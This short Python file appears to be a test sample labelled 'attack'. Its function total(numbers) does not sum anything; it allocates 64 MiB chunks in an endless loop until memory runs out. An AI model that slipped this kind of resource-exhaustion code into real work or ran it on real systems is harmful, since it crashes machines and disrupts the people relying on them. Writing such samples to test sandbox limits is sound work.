"""Takes memory until there is none."""

# /// attack
# honest = ["counts"]
# ///
# %% total
def total(numbers):
    taken = []
    while True:
        taken.append(b"x" * (64 << 20))
